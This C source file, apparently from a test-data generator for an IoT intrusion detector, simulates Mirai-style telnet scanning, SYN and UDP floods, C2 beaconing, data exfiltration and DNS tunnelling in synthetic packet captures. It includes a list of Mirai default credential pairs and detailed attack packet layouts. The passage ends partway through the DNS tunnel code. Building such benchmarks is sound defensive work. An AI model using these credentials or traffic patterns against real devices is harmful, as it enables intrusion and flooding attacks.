/*
 * scenario — `iotgen scenario NAME`: the smart home of `iotgen home` for D
 * days (the detector learns on the first) with one behaviour injected on
 * the last day, from one device, at a time drawn from the seed; and the
 * ground truth as JSON ({"scenario", "attack", "device", "start", "end",
 * "kind", "learn_for"}) for bench/eval.sh.
 *
 * The home runs unchanged (home_generate); a scenario adds processes on the
 * same event engine (so its packets fall in time order among the home's)
 * and, for the benign surprises that change how the home itself behaves
 * (daylight saving, a movie night, a device gone quiet), sets a home_var.
 * Until the behaviour starts the capture is the plain home's, byte for
 * byte. A scenario draws from its own PRNG stream; the hn_* calls it makes
 * for a device draw from that device's stream and the router's, so the
 * home's later traffic differs from the plain home's, as it would.
 *
 * Attacks are modelled on what is known of real malware rather than drawn
 * as caricatures: Mirai's raw-socket scanner (one source port, the target
 * address as sequence number, no TCP options, ~1 in 10 probes on 2323)
 * and its brute-force logins (one credential pair per connection), its
 * SYN flood (options, random ports) and UDP flood (512 random bytes,
 * random ports), a C2 check-in over TLS, dnscat2-like hex-encoded queries,
 * a BusyBox backdoor shell. Closed ports answer RST, the kernel resets
 * SYN-ACKs a raw socket provoked, LAN hosts are found by ARP, unanswered
 * ARP is retried as Linux does.
 *
 * The benign firmware updates (fw-update-*) reboot their device through
 * home_reboot: its processes wait for the boot and reconnect.
 *
 * Rejected: a separate "attack pcap" merged with a home capture (the
 * device's own state — addresses, DNS cache, ARP — would not agree), and
 * fixed attack times (a detector could be tuned to them).
 */
#include "pcaps/gen/scenario.h"

#include <errno.h>
#include <getopt.h>
#include <jansson.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pcaps/gen/addr.h"
#include "pcaps/gen/cli.h"
#include "pcaps/gen/dnsmsg.h"
#include "pcaps/gen/home.h"
#include "pcaps/gen/homenet.h"
#include "pcaps/gen/names.h"
#include "pcaps/gen/pkt.h"
#include "pcaps/gen/prng.h"
#include "pcaps/gen/sim.h"
#include "pcaps/gen/tcpflow.h"

#define MS 1000ULL
#define SEC 1000000ULL
#define MIN (60 * SEC)
#define HOUR (3600 * SEC)
#define DAY (86400 * SEC)
#define MIB (1024 * 1024)

/* The home's default start: devices boot at 06:00, so the learning day
 * holds a night with its firmware downloads. */
#define SCN_START "2026-03-02T06:00:00Z"
/* Daylight saving starts in the UK and the EU at 01:00 UTC on the last
 * Sunday of March (2026-03-29): a home on UK time moves from UTC to UTC+1.
 * dst-shift starts the day before, so its last day is the first whole
 * day on summer time. */
#define SCN_DST_AT "2026-03-29T01:00:00Z"
#define SCN_DST_START "2026-03-28T06:00:00Z"
#define SCN_DEFAULT_DAYS 2
#define SCN_MAX_DAYS 60
#define SCN_LEARN_FOR "24h"
#define SCN_TAIL (60 * SEC) /* open-ended behaviours end this long before the capture does */

/* ---- state of the injected processes --------------------------------------- */

struct scan {
	uint64_t until, hit_at;
	uint16_t sport;         /* Mirai's raw scanner keeps one source port */
	uint32_t pps;
	double acc;
	bool hit;
	uint8_t lan[256];       /* ARP per LAN host: 0 not asked, 1 answered, 2 nobody */
	uint8_t victim[4];      /* the host whose telnet answers */
	uint16_t vport;
	uint32_t vrtt;
	uint8_t vttl;
	int tries, max_tries;
	struct tcpf f;
};

struct beacon {
	char name[NAMES_MAXLEN];
	struct hn_rspec spec;
	int left;
};

struct flood {
	uint64_t until;
	uint8_t victim[4];
	uint16_t port;
	uint32_t pps, rtt;
	uint8_t ttl;
	double acc;
	uint64_t next_icmp;
};

struct exfil {
	char name[NAMES_MAXLEN];
	struct hn_rspec spec;
	struct hn_tls c;
	int chunk, nchunks;
};

struct tunnel {
	char zone[64];
	uint64_t until;
	double gap_us;
	uint32_t serial;
};

struct lateral {
	int host;               /* ARP sweep position */
	uint8_t live[HN_MAX_DEV + 2][4];
	int nlive, li, pi;
	struct tcpf f;
};

struct backdoor {
	uint8_t peer[2][4], dl[4];
	uint32_t rtt[2], dl_rtt;
	uint8_t ttl[2], dl_ttl;
	int session;
	struct tcpf f, g;
};

struct browse {
	uint64_t until;
	int visits;
	char used[400][NAMES_MAXLEN];
	int nused;
};

struct newdev {
	struct hn_dev *d;
	struct hn_tls mqtt;
	uint64_t mqtt_until;
};

struct fwspec;

struct fwup {
	const struct fwspec *f;
	struct hn_tls c;            /* the download */
	uint64_t size, got;         /* image bytes, and those received */
	uint64_t break_at;          /* the connection breaks there (0: it does not) */
	uint32_t bps;
	bool fresh;                 /* the next part is a request's first */
	uint32_t reports;           /* telemetry reports so far */
};

struct scen;

struct scn {
	const struct scen *sc;
	uint64_t seed, days, start, end, last_day;
	uint64_t at;                /* the behaviour begins */
	bool brief;                 /* the demo: long behaviours last about a minute */
	uint64_t t0, t1;            /* truth window: first and last injected packet */
	struct prng rng;            /* the scenario's own stream */
	struct home_var var;
	struct home *home;
	struct hn *net;
	struct sim *sim;
	struct hn_dev *dev;         /* the device concerned, once the home exists */
	const char *dev_kind;       /* its kind ("camera"...), NULL when none in particular */
	uint8_t mac[6];
	bool has_mac;
	union {
		struct scan scan;
		struct beacon beacon;
		struct flood flood;
		struct exfil exfil;
		struct tunnel tunnel;
		struct lateral lateral;
		struct backdoor backdoor;
		struct browse browse;
		struct newdev newdev;
		struct fwup fwup;
	} u;
};

struct scen {
	const char *name;
	bool attack;
	const char *dev;   /* the device concerned, by home kind; NULL: a new one, or all */
	/* The alert kind expected; NULL: none should be raised. A benign
	 * behaviour may expect a notice (new_device), and nothing else. */
	const char *kind;
	const char *what;
	/* Before the run: when it happens (at), departures (var), the start. */
	void (*plan)(struct scn *s);
	/* Once the devices exist: schedules the behaviour's processes. */
	void (*inject)(struct scn *s);
};

/* ---- helpers ------------------------------------------------------------ */

static uint64_t span(struct prng *r, uint64_t lo, uint64_t hi)
{
	return prng_range(r, lo, hi);
}

/* A time in [lo, hi] after the start of the last day, in whole seconds so
 * the truth's start is exact. */
static uint64_t on_last_day(struct scn *s, uint64_t lo, uint64_t hi)
{
	return s->last_day + span(&s->rng, lo / SEC, hi / SEC) * SEC;
}

/* The truth window covers every packet the behaviour injected. */
static void mark(struct scn *s, uint64_t t)
{
	if (t >= s->end)
		t = s->end - 1;
	if (!s->t0 || t < s->t0)
		s->t0 = t;
	if (t > s->t1)
		s->t1 = t;
}

/* Behaviours that last until the capture ends. */
static void open_ended(struct scn *s)
{
	mark(s, s->at);
	mark(s, s->end - SCN_TAIL);
}

static uint32_t be32(const uint8_t ip[4])
{
	return (uint32_t)ip[0] << 24 | (uint32_t)ip[1] << 16 | (uint32_t)ip[2] << 8 | ip[3];
}

static void rand_str(struct prng *r, char *out, size_t n, const char *set)
{
	size_t k = strlen(set);

	for (size_t i = 0; i < n; i++)
		out[i] = set[prng_below(r, k)];
	out[n] = '\0';
}

/* A random-looking domain of the kind malware registers: letters and
 * digits under a cheap TLD. */
static void dga_zone(struct prng *r, char *out, size_t len)
{
	static const char *const tlds[] = {"top", "xyz", "info", "cc", "biz", "club"};
	char label[24];

	rand_str(r, label, span(r, 9, 15), "abcdefghijklmnopqrstuvwxyz0123456789bcdfghkmnpqrstvwxz");
	if (label[0] >= '0' && label[0] <= '9')
		label[0] = 'q';
	snprintf(out, len, "%s.%s", label, tlds[prng_below(r, sizeof(tlds) / sizeof(tlds[0]))]);
}

/* Ranges Mirai's scanner never probes (US DoD, GE, HP, USPS, IANA...). */
static bool mirai_skips(const uint8_t ip[4])
{
	static const uint8_t firsts[] = {3, 6, 7, 11, 15, 16, 21, 22, 26, 28, 29, 30, 33, 55, 56, 214, 215};

	for (size_t i = 0; i < sizeof(firsts); i++)
		if (ip[0] == firsts[i])
			return true;
	return false;
}

struct rawtcp {
	const uint8_t *smac, *dmac, *sip, *dip;
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t flags, ttl;
	uint16_t win, ipid;
	bool df, pad;
	const uint8_t *opt;
	size_t optlen;
};

/* One TCP segment built outside a connection model: a raw socket's probe,
 * a kernel's RST, a flood packet. */
static void raw_tcp(struct scn *s, uint64_t t, const struct rawtcp *x)
{
	uint8_t f[PKT_MAX];
	struct pkt_l3 l3 = {.smac = x->smac, .dmac = x->dmac, .sip = x->sip, .dip = x->dip, .ttl = x->ttl,
			    .df = x->df, .ipid = x->ipid};
	struct pkt_tcph h = {.sport = x->sport, .dport = x->dport, .seq = x->seq, .ack = x->ack,
			     .flags = x->flags, .win = x->win, .opt = x->opt, .optlen = x->optlen};
	size_t n = pkt_tcp(f, &l3, &h, NULL, 0);

	if (!n) {
		sim_fail(s->sim, -EINVAL);
		return;
	}
	if (x->pad)
		n = pkt_pad(f, n, PKT_ETH_MIN);
	sim_emit(s->sim, t, f, n);
}

static void arp_frame(struct scn *s, uint64_t t, const uint8_t *dmac, uint16_t op, const uint8_t sha[6],
		      const uint8_t spa[4], const uint8_t *tha, const uint8_t tpa[4], bool pad)
{
	uint8_t f[PKT_MAX];
	size_t n = pkt_arp(f, dmac, op, sha, spa, tha, tpa);

	if (pad)
		n = pkt_pad(f, n, PKT_ETH_MIN);
	sim_emit(s->sim, t, f, n);
}

static const uint8_t bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

/* A LAN host as it answers: the router or a device that is up. */
struct lanhost {
	const uint8_t *mac;
	uint8_t ttl;
	uint32_t rtt;
	bool pad;                   /* a device's frames crossed a wire; the router's own do not */
	const struct hn_dev *d;     /* NULL for the router */
};

static bool lan_host(struct scn *s, const uint8_t ip[4], struct lanhost *o)
{
	struct hn *n = s->net;

	if (!memcmp(ip, n->gw_ip4, 4)) {
		*o = (struct lanhost){n->gw_mac, 64, 300, false, NULL};
		return true;
	}
	for (size_t i = 0; i < n->ndev; i++) {
		const struct hn_dev *d = &n->dev[i];

		if (d->up && !memcmp(d->ip4, ip, 4)) {
			*o = (struct lanhost){d->mac, d->ip_ttl, d->lan_rtt_us, true, d};
			return true;
		}
	}
	return false;
}

/* A TCP connection from device d to ip:port; srv describes the far end as
 * captured (the router's MAC for an internet host). Draws from the
 * scenario's stream, which outlives the connection. */
static void tcp_from_dev(struct scn *s, struct tcpf *f, const struct hn_dev *d, const uint8_t ip[4], uint16_t port,
			 const struct lanhost *srv)
{
	memset(f, 0, sizeof(*f));
	ep_v4(&f->e[TCPF_C].ep, d->mac, d->ip4, (uint16_t)span(&s->rng, 32768, 60999), d->ip_ttl, d->lan_rtt_us);
	f->e[TCPF_C].ep.pad = true;
	ep_v4(&f->e[TCPF_S].ep, srv->mac, ip, port, srv->ttl, srv->rtt);
	f->e[TCPF_S].ep.pad = srv->pad;
	tcpf_init(f, s->sim, &s->rng);
}

static uint64_t say(struct tcpf *f, int from, uint64_t t, const void *data, size_t len)
{
	struct tcpf_src src = tcpf_src_buf(data, len);

	return tcpf_send(f, from, t, &src, 0);
}

static uint64_t says(struct tcpf *f, int from, uint64_t t, const char *text)
{
	return say(f, from, t, text, strlen(text));
}

/* An ICMP destination unreachable (RFC 792) from sip about the datagram
 * whose IP header and first 8 payload bytes are orig (28 bytes). */
static void icmp4_unreach(struct scn *s, uint64_t t, const uint8_t *smac, const uint8_t *dmac, const uint8_t sip[4],
			  const uint8_t dip[4], uint8_t ttl, uint8_t code, const uint8_t orig[28])
{
	uint8_t f[14 + 20 + 8 + 28];
	uint8_t *ip = f + 14, *icmp = ip + 20;
	uint16_t ck;

	memset(f, 0, sizeof(f));
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	f[12] = 0x08;
	ip[0] = 0x45;
	ip[1] = 0xc0; /* Linux sends ICMP errors as internetwork control */
	ip[3] = 20 + 8 + 28;
	ip[4] = (uint8_t)prng_u32(&s->rng);
	ip[5] = (uint8_t)prng_u32(&s->rng);
	ip[8] = ttl;
	ip[9] = 1;
	memcpy(ip + 12, sip, 4);
	memcpy(ip + 16, dip, 4);
	ck = pkt_csum(ip, 20);
	ip[10] = (uint8_t)(ck >> 8);
	ip[11] = (uint8_t)ck;
	icmp[0] = 3;
	icmp[1] = code;
	memcpy(icmp + 8, orig, 28);
	ck = pkt_csum(icmp, 8 + 28);
	icmp[2] = (uint8_t)(ck >> 8);
	icmp[3] = (uint8_t)ck;
	sim_emit(s->sim, t, f, sizeof(f));
}

/* ---- telnet-scan: the camera turns Mirai bot -------------------------------- */

static const uint8_t iac_server[] = {0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f, 0xff, 0xfb, 0x01, 0xff, 0xfb, 0x03};
static const uint8_t iac_client[] = {0xff, 0xfc, 0x01, 0xff, 0xfc, 0x1f, 0xff, 0xfd, 0x01, 0xff, 0xfd, 0x03};

/* One login per connection, as Mirai tries them: user, password, and the
 * server's verdict after BusyBox login's delay. */
static void scan_login(struct sim *sim, void *arg)
{
	static const char *const creds[][2] = {
		{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"},
		{"root", "xmhdipc"}, {"root", "default"}, {"root", "juantech"}, {"support", "support"},
	};
	struct scn *s = arg;
	struct scan *k = &s->u.scan;
	struct prng *r = &s->rng;
	struct lanhost far = {s->net->gw_mac, k->vttl, k->vrtt, false, NULL};
	const char *const *cr = creds[(size_t)k->tries % (sizeof(creds) / sizeof(creds[0]))];
	char line[64];
	uint64_t t = sim_now(sim);

	tcp_from_dev(s, &k->f, s->dev, k->victim, k->vport, &far);
	mark(s, t);
	t = tcpf_open(&k->f, t);
	t = say(&k->f, TCPF_S, t + span(r, 20 * MS, 120 * MS), iac_server, sizeof(iac_server));
	t = say(&k->f, TCPF_C, t + span(r, 1 * MS, 5 * MS), iac_client, sizeof(iac_client));
	t = says(&k->f, TCPF_S, t + span(r, 5 * MS, 40 * MS), "\r\n\r\n(none) login: ");
	snprintf(line, sizeof(line), "%s\r\n", cr[0]);
	t = says(&k->f, TCPF_C, t + span(r, 100 * MS, 500 * MS), line);
	t = says(&k->f, TCPF_S, t + span(r, 5 * MS, 40 * MS), "Password: ");
	snprintf(line, sizeof(line), "%s\r\n", cr[1]);
	t = says(&k->f, TCPF_C, t + span(r, 100 * MS, 500 * MS), line);
	t = says(&k->f, TCPF_S, t + span(r, 1 * SEC, 3 * SEC), "\r\nLogin incorrect\r\n(none) login: ");
	t = tcpf_close(&k->f, TCPF_C, t + span(r, 20 * MS, 200 * MS));
	mark(s, t);
	if (++k->tries < k->max_tries)
		sim_at(sim, t + span(r, 300 * MS, 2 * SEC), scan_login, s);
}

static void scan_syn(struct scn *s, uint64_t t, const uint8_t *dmac, const uint8_t ip[4], uint16_t port)
{
	struct scan *k = &s->u.scan;
	struct rawtcp x = {.smac = s->dev->mac, .dmac = dmac, .sip = s->dev->ip4, .dip = ip, .sport = k->sport,
			   .dport = port, .seq = be32(ip), .flags = PKT_SYN, .ttl = 64,
			   .win = (uint16_t)prng_u32(&s->rng), .ipid = (uint16_t)prng_u32(&s->rng), .pad = true};

	raw_tcp(s, t, &x);
	mark(s, t);
}

/* A closed port's RST/ACK to a scan SYN. */
static void scan_rst(struct scn *s, uint64_t t, const struct lanhost *from, const uint8_t ip[4], uint16_t port)
{
	struct scan *k = &s->u.scan;
	struct rawtcp x = {.smac = from->mac, .dmac = s->dev->mac, .sip = ip, .dip = s->dev->ip4, .sport = port,
			   .dport = k->sport, .ack = be32(ip) + 1, .flags = PKT_RST | PKT_ACK, .ttl = from->ttl,
			   .df = true, .pad = from->pad};

	raw_tcp(s, t, &x);
	mark(s, t);
}

static void scan_lan(struct scn *s, uint64_t t, uint16_t port)
{
	struct scan *k = &s->u.scan;
	struct hn_dev *d = s->dev;
	uint8_t ip[4] = {d->ip4[0], d->ip4[1], d->ip4[2], (uint8_t)span(&s->rng, 1, 254)};
	struct lanhost o;
	bool owned;

	if (ip[3] == d->ip4[3] || k->lan[ip[3]] == 2)
		return; /* itself; or a neighbour entry FAILED: the kernel drops the probe */
	owned = lan_host(s, ip, &o);
	if (k->lan[ip[3]] == 1 && !owned)
		return; /* the host has left since */
	if (!k->lan[ip[3]]) {
		/* The probe waits for ARP: up to three who-has a second apart. */
		arp_frame(s, t, bcast, 1, d->mac, d->ip4, NULL, ip, true);
		mark(s, t);
		if (!owned) {
			arp_frame(s, t + SEC + span(&s->rng, 0, 2 * MS), bcast, 1, d->mac, d->ip4, NULL, ip, true);
			arp_frame(s, t + 2 * SEC + span(&s->rng, 0, 4 * MS), bcast, 1, d->mac, d->ip4, NULL, ip, true);
			mark(s, t + 2 * SEC + 4 * MS);
			k->lan[ip[3]] = 2;
			return;
		}
		t += o.rtt / 2 + span(&s->rng, 20, 300);
		arp_frame(s, t, d->mac, 2, o.mac, ip, d->mac, d->ip4, o.pad);
		t += span(&s->rng, 30, 200);
		k->lan[ip[3]] = 1;
	}
	scan_syn(s, t, o.mac, ip, port);
	scan_rst(s, t + o.rtt + span(&s->rng, 0, 200), &o, ip, port);
}

static void scan_one(struct scn *s, uint64_t t)
{
	struct scan *k = &s->u.scan;
	struct prng *r = &s->rng;
	struct hn *n = s->net;
	uint16_t port = prng_chance(r, 0.1) ? 2323 : 23;
	uint8_t ip[4];
	struct lanhost far = {n->gw_mac, (uint8_t)span(r, 38, 60), (uint32_t)span(r, 25 * MS, 320 * MS), false, NULL};

	if (prng_chance(r, 0.02)) {
		scan_lan(s, t, port);
		return;
	}
	do
		addr_public4(r, ip);
	while (mirai_skips(ip));
	scan_syn(s, t, n->gw_mac, ip, port);
	if (!k->hit && t >= k->hit_at) {
		/* An open telnet: SYN-ACK; the bot's kernel has no socket for it
		 * and resets, then the bot connects for real and tries logins. */
		uint8_t mss[4] = {2, 4, 0x05, 0xb4};
		uint64_t ta = t + far.rtt;
		struct rawtcp sa = {.smac = n->gw_mac, .dmac = s->dev->mac, .sip = ip, .dip = s->dev->ip4,
				    .sport = port, .dport = k->sport, .seq = prng_u32(r), .ack = be32(ip) + 1,
				    .flags = PKT_SYN | PKT_ACK, .ttl = far.ttl, .win = 5840, .df = true,
				    .opt = mss, .optlen = sizeof(mss)};
		struct rawtcp rst = {.smac = s->dev->mac, .dmac = n->gw_mac, .sip = s->dev->ip4, .dip = ip,
				     .sport = k->sport, .dport = port, .seq = be32(ip) + 1, .flags = PKT_RST,
				     .ttl = 64, .df = true, .pad = true};

		raw_tcp(s, ta, &sa);
		raw_tcp(s, ta + span(r, 60, 300), &rst);
		k->hit = true;
		memcpy(k->victim, ip, 4);
		k->vport = port;
		k->vrtt = far.rtt;
		k->vttl = far.ttl;
		sim_at(s->sim, ta + span(r, 500 * MS, 3 * SEC), scan_login, s);
		return;
	}
	/* Most of the internet does not answer; a host without telnet resets. */
	if (prng_chance(r, 0.035))
		scan_rst(s, t + far.rtt, &far, ip, port);
}

static void scan_tick(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct scan *k = &s->u.scan;
	uint64_t now = sim_now(sim);
	int n;

	k->acc += k->pps * 0.1 * (0.7 + 0.6 * prng_unit(&s->rng));
	n = (int)k->acc;
	k->acc -= n;
	for (int i = 0; i < n; i++)
		scan_one(s, now + (uint64_t)(((double)i + prng_unit(&s->rng)) * 100000.0 / n));
	if (now + 100 * MS < k->until)
		sim_at(sim, now + 100 * MS, scan_tick, s);
}

static void plan_telnet_scan(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 20 * HOUR);
}

static void inject_telnet_scan(struct scn *s)
{
	struct scan *k = &s->u.scan;
	struct prng *r = &s->rng;

	k->sport = (uint16_t)span(r, 1024, 65535);
	k->pps = (uint32_t)span(r, 80, 160);
	k->until = s->at + (s->brief ? span(r, 60 * SEC, 90 * SEC) : span(r, 4 * MIN, 8 * MIN));
	k->hit_at = s->at + span(r, 20 * SEC, 90 * SEC);
	k->max_tries = (int)span(r, 3, 5);
	sim_at(s->sim, s->at, scan_tick, s);
}

/* ---- c2-beacon: the plug checks in with a command server ------------------ */

static void beacon_run(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct beacon *b = &s->u.beacon;
	struct prng *r = &s->rng;
	struct hn_tls c;
	struct hn_tls_opts o = {.name = b->name, .spec = &b->spec, .port = 443};
	uint64_t now = sim_now(sim), t;
	size_t up = span(r, 150, 420), down = span(r, 60, 900);
	uint64_t think = span(r, 20 * MS, 150 * MS);

	mark(s, now);
	t = hn_tls_open(s->net, s->dev, &c, now, &o);
	t = hn_tls_rr(&c, t, up, down, think);
	t = hn_tls_close(&c, t + span(r, 30 * MS, 400 * MS), TCPF_C, false);
	mark(s, t);
	if (--b->left > 0)
		sim_at(sim, now + prng_jitter(r, 60 * SEC, 0.15), beacon_run, s);
}

static void plan_c2_beacon(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 20 * HOUR);
}

static void inject_c2_beacon(struct scn *s)
{
	struct beacon *b = &s->u.beacon;

	dga_zone(&s->rng, b->name, sizeof(b->name));
	/* A rented server with a short TTL, so it can move at once. */
	b->spec = (struct hn_rspec){.prov = HP_HOSTING, .ttl = 30};
	b->left = s->brief ? (int)span(&s->rng, 8, 12) : (int)span(&s->rng, 25, 45);
	sim_at(s->sim, s->at, beacon_run, s);
}

/* ---- syn-flood: the TV joins a SYN flood ------------------------------------ */

static void flood_syn_tick(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct flood *k = &s->u.flood;
	struct prng *r = &s->rng;
	struct hn_dev *d = s->dev;
	uint64_t now = sim_now(sim);
	int n;

	k->acc += k->pps * 0.05 * (0.8 + 0.4 * prng_unit(r));
	n = (int)k->acc;
	k->acc -= n;
	for (int i = 0; i < n; i++) {
		uint64_t t = now + (uint64_t)(((double)i + prng_unit(r)) * 50000.0 / n);
		uint32_t seq = prng_u32(r), tsv = prng_u32(r);
		uint16_t sport = (uint16_t)span(r, 1024, 65535);
		/* Mirai's SYN carries MSS, SACK-permitted, timestamps, window scale. */
		uint16_t mss = (uint16_t)(1400 + prng_below(r, 16));
		uint8_t opt[20] = {2, 4, (uint8_t)(mss >> 8), (uint8_t)mss, 4, 2, 8, 10,
				   (uint8_t)(tsv >> 24), (uint8_t)(tsv >> 16), (uint8_t)(tsv >> 8), (uint8_t)tsv,
				   0, 0, 0, 0, 1, 3, 3, 6};
		struct rawtcp x = {.smac = d->mac, .dmac = s->net->gw_mac, .sip = d->ip4, .dip = k->victim,
				   .sport = sport, .dport = k->port, .seq = seq, .flags = PKT_SYN, .ttl = 64,
				   .win = (uint16_t)prng_u32(r), .ipid = (uint16_t)prng_u32(r), .df = true,
				   .opt = opt, .optlen = sizeof(opt), .pad = true};
		/* The target answers while it can (SYN cookies), then mostly not:
		 * its uplink is full. The TV's kernel resets what it answers. */
		double answer = t < s->at + 15 * SEC ? 0.8 : 0.25;

		raw_tcp(s, t, &x);
		mark(s, t);
		if (prng_chance(r, answer)) {
			uint64_t ta = t + prng_jitter(r, k->rtt, 0.3);
			uint8_t sopt[4] = {2, 4, 0x05, 0xb4};
			struct rawtcp sa = {.smac = s->net->gw_mac, .dmac = d->mac, .sip = k->victim, .dip = d->ip4,
					    .sport = k->port, .dport = sport, .seq = prng_u32(r), .ack = seq + 1,
					    .flags = PKT_SYN | PKT_ACK, .ttl = k->ttl, .win = 65160, .df = true,
					    .opt = sopt, .optlen = sizeof(sopt)};
			struct rawtcp rst = {.smac = d->mac, .dmac = s->net->gw_mac, .sip = d->ip4, .dip = k->victim,
					     .sport = sport, .dport = k->port, .seq = seq + 1, .flags = PKT_RST,
					     .ttl = 64, .df = true, .pad = true};

			raw_tcp(s, ta, &sa);
			raw_tcp(s, ta + span(r, 40, 400), &rst);
			mark(s, ta + 400);
		}
	}
	if (now + 50 * MS < k->until)
		sim_at(sim, now + 50 * MS, flood_syn_tick, s);
}

static void plan_flood(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 21 * HOUR);
}

static void flood_target(struct scn *s, struct flood *k)
{
	struct prng *r = &s->rng;

	addr_public4(r, k->victim);
	k->rtt = (uint32_t)span(r, 15 * MS, 140 * MS);
	k->ttl = (uint8_t)span(r, 44, 58);
}

static void inject_syn_flood(struct scn *s)
{
	struct flood *k = &s->u.flood;
	struct prng *r = &s->rng;

	flood_target(s, k);
	k->port = prng_chance(r, 0.6) ? 80 : 443;
	k->pps = (uint32_t)span(r, 120, 250); /* 7,000 to 15,000 SYNs a minute */
	k->until = s->at + span(r, 3 * MIN, 6 * MIN);
	sim_at(s->sim, s->at, flood_syn_tick, s);
}

/* ---- udp-flood: the thermostat floods a target with UDP --------------------- */

static void flood_udp_tick(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct flood *k = &s->u.flood;
	struct prng *r = &s->rng;
	struct hn_dev *d = s->dev;
	uint64_t now = sim_now(sim);
	uint8_t payload[512], f[PKT_MAX];
	int n;

	k->acc += k->pps * 0.05 * (0.8 + 0.4 * prng_unit(r));
	n = (int)k->acc;
	k->acc -= n;
	for (int i = 0; i < n; i++) {
		uint64_t t = now + (uint64_t)(((double)i + prng_unit(r)) * 50000.0 / n);
		/* Mirai's "udp" attack: random ports, 512 fresh random bytes. */
		struct pkt_l3 l3 = {.smac = d->mac, .dmac = s->net->gw_mac, .sip = d->ip4, .dip = k->victim,
				    .ttl = 64, .ipid = (uint16_t)prng_u32(r)};
		uint16_t sport = (uint16_t)span(r, 1024, 65535), dport = (uint16_t)span(r, 1, 65535);
		size_t len;

		prng_fill(r, payload, sizeof(payload));
		len = pkt_udp(f, &l3, sport, dport, payload, sizeof(payload));
		if (!len) {
			sim_fail(sim, -EINVAL);
			return;
		}
		sim_emit(sim, t, f, len);
		mark(s, t);
		/* Most ports are closed; the target's ICMP errors are rate-limited
		 * (Linux: about one a second per source). */
		if (t >= k->next_icmp) {
			uint64_t te = t + prng_jitter(r, k->rtt, 0.2);

			icmp4_unreach(s, te, s->net->gw_mac, d->mac, k->victim, d->ip4, k->ttl, 3,
				      f + PKT_ETH_HDR);
			mark(s, te);
			k->next_icmp = t + prng_jitter(r, SEC, 0.1);
		}
	}
	if (now + 50 * MS < k->until)
		sim_at(sim, now + 50 * MS, flood_udp_tick, s);
}

static void inject_udp_flood(struct scn *s)
{
	struct flood *k = &s->u.flood;
	struct prng *r = &s->rng;

	flood_target(s, k);
	k->pps = (uint32_t)span(r, 250, 450); /* about 1-2 Mbit/s from a small Wi-Fi device */
	k->until = s->at + span(r, 2 * MIN, 5 * MIN);
	sim_at(s->sim, s->at, flood_udp_tick, s);
}

/* ---- exfil: the camera uploads 200 MiB to a new host ---------------------- */

static void exfil_chunk(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct exfil *x = &s->u.exfil;
	struct prng *r = &s->rng;
	uint64_t t = sim_now(sim);
	/* A multipart POST of 20 MiB and its 201. */
	size_t up = 20 * MIB + span(r, 350, 600), down = span(r, 220, 420);
	uint64_t think = span(r, 30 * MS, 200 * MS);

	t = hn_tls_rr(&x->c, t, up, down, think);
	mark(s, t);
	if (++x->chunk < x->nchunks) {
		sim_at(sim, t + span(r, 5 * MS, 80 * MS), exfil_chunk, s);
		return;
	}
	t = hn_tls_close(&x->c, t + span(r, 100 * MS, 1 * SEC), TCPF_C, false);
	mark(s, t);
}

static void exfil_start(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct exfil *x = &s->u.exfil;
	struct hn_tls_opts o = {.name = x->name, .spec = &x->spec, .port = 443, .alpn = "http/1.1",
				.up_bps = (uint32_t)span(&s->rng, 12000000, 20000000)};
	uint64_t t = sim_now(sim);

	mark(s, t);
	t = hn_tls_open(s->net, s->dev, &x->c, t, &o);
	mark(s, t);
	/* One chunk per run keeps only one chunk's packets queued at once. */
	sim_at(sim, t, exfil_chunk, s);
}

static void plan_exfil(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 21 * HOUR);
}

static void inject_exfil(struct scn *s)
{
	struct exfil *x = &s->u.exfil;
	char zone[64], id[8];

	dga_zone(&s->rng, zone, sizeof(zone));
	rand_str(&s->rng, id, 6, "0123456789abcdef");
	snprintf(x->name, sizeof(x->name), "up-%s.%s", id, zone);
	x->spec = (struct hn_rspec){.prov = HP_HOSTING, .ttl = 300};
	x->nchunks = 10; /* 200 MiB */
	sim_at(s->sim, s->at, exfil_start, s);
}

/* ---- dns-tunnel: the hub talks through DNS ---------------------------------- */

static void hex_labels(struct prng *r, char *out, size_t cap, size_t nhex)
{
	size_t o = 0;

	for (size_t i = 0; i < nhex && o + 2 < cap; i++) {
		if (i && i % 63 == 0)
			out[o++] = '.';
		out[o++] = "0123456789abcdef"[prng_below(r, 16)];
	}
	out[o] = '\0';
}

/* One query, dnscat2-like: hex-encoded data in labels under the zone, TXT
 * or CNAME; the router forwards it (no cache can hold it) and relays the
 * tunnel server's answer, or NXDOMAIN for a stale or garbled one. */
static void tunnel_query(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct tunnel *k = &s->u.tunnel;
	struct prng *r = &s->rng;
	struct hn_dev *d = s->dev;
	struct hn *n = s->net;
	char data[200], name[272], target[200], mname[80], rname[96];
	uint8_t msg[1024], txt[256];
	uint16_t id = (uint16_t)prng_u32(r), sport = (uint16_t)span(r, 32768, 60999);
	uint16_t qtype = prng_chance(r, 0.7) ? DNSM_TXT : DNSM_CNAME;
	bool nx = prng_chance(r, 0.45);
	uint64_t now = sim_now(sim), t, ta, delay;
	struct dnsm m;
	size_t len;

	hex_labels(r, data, sizeof(data), span(r, 40, 120));
	snprintf(name, sizeof(name), "%s.%s", data, k->zone);
	t = hn_arp_gw(n, d, now);
	dnsm_init(&m, msg, sizeof(msg), id, DNSM_RD);
	dnsm_question(&m, name, qtype, DNSM_IN);
	len = dnsm_finish(&m);
	if (!len) {
		sim_fail(sim, -EINVAL);
		return;
	}
	hn_dev_udp(n, d, t, false, n->gw_ip4, n->gw_mac, sport, 53, msg, len);
	mark(s, t);

	delay = (uint64_t)prng_lognormal(r, 45000.0, 0.5);
